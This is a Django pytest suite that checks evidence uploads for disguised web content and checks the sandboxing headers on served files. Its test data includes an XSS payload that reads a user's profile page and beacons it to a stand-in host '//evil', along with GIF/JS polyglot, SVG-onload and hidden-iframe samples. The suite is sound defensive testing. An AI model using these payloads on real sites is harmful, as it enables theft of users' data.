"""Evidence uploads are checked by size and by content, and served so they cannot run script."""

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from contributions.evidence import MAX_EVIDENCE_BYTES
from contributions.models import Contribution
from tests.security.world import PNG

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
SCRIPT = b"<script>fetch('/profile/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))</script>"

BAD_FILES = [
    # (name, content, what the member is told)
    ("report.pdf", b"<!doctype html><html><body>" + SCRIPT, "not a file type we accept"),
    ("report.pdf", b"  \n<html>" + SCRIPT, "not a file type we accept"),
    ("slides.pptx", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "not a file type we accept"),
    ("photo.png", b"GIF89a/*" + b"\x00" * 8 + b"*/=1;" + SCRIPT, "contains web page code"),  # GIF/JS polyglot
    ("photo.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;<html>" + SCRIPT, "contains web page code"),
    ("photo.png", PNG + b"<HTML><BODY>" + SCRIPT, "contains web page code"),
    ("scan.pdf", PDF + b"\n% <  script >alert(1)</script>", "contains web page code"),
    ("scan.pdf", PDF + b"\x00" * (200 * 1024) + b"<iframe src=//evil>", "contains web page code"),  # deep inside
    ("empty.pdf", b"", "The submitted file is empty"),
    ("huge.pdf", PDF + b"0" * MAX_EVIDENCE_BYTES, "evidence files can be at most 10.0\xa0MB"),
]


def _form(world, upload):
    return {
        "activity_type": world.contribution_with_file.activity_type_id,
        "title": "Keynote at the user group",
        "description": "Forty people",
        "occurred_on": timezone.localdate().isoformat(),
        "quantity": "1",
        "action": "submit",
        "evidence_file": upload,
    }


BAD_IDS = [f"{i}-{row[0]}" for i, row in enumerate(BAD_FILES)]


@pytest.mark.parametrize(("name", "content", "message"), BAD_FILES, ids=BAD_IDS)
def test_a_bad_file_is_refused_with_a_clear_message(client, world, name, content, message):
    client.force_login(world.people["member"])
    before = Contribution.objects.count()
    response = client.post("/contributions/new/", _form(world, SimpleUploadedFile(name, content)))
    assert response.status_code == 200
    assert message in response.content.decode()
    assert Contribution.objects.count() == before


@pytest.mark.parametrize(("name", "content"), [("slides.png", PNG), ("agenda.pdf", PDF)])
def test_a_real_file_is_accepted(client, world, name, content):
    client.force_login(world.people["member"])
    response = client.post("/contributions/new/", _form(world, SimpleUploadedFile(name, content)))
    assert response.status_code == 302
    assert Contribution.objects.filter(title="Keynote at the user group").get().evidence_file


def _served(client, world, stored_name: str, content: bytes):
    contribution = world.contribution_with_file
    contribution.evidence_file.save(stored_name, ContentFile(content), save=True)
    client.force_login(world.people["member"])
    return client.get(f"/contributions/{contribution.pk}/evidence/")


def _assert_cannot_run_script(response):
    assert response["X-Content-Type-Options"] == "nosniff"
    csp = response["Content-Security-Policy"]
    directives = {part.strip().split(" ")[0]: part.strip() for part in csp.split(";")}
    assert directives["default-src"] == "default-src 'none'"
    assert "sandbox" in directives and "script-src" not in directives
    assert "unsafe-inline" not in csp
    assert response["Cache-Control"] == "private, no-store"


def test_an_image_is_inline_but_sandboxed(client, world):
    response = _served(client, world, "photo.png", PNG)
    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"].startswith("inline")
    _assert_cannot_run_script(response)


def test_a_pdf_downloads(client, world):
    response = _served(client, world, "agenda.pdf", PDF)
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment")
    _assert_cannot_run_script(response)


def test_a_stored_file_that_is_really_html_downloads_as_bytes(client, world):
    """A file stored before the checks existed (or put there by hand) is never rendered."""
    response = _served(client, world, "old.html", b"<html>" + SCRIPT)
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment")
    assert "html" not in response["Content-Disposition"]  # not even the stored name's suffix
    _assert_cannot_run_script(response)
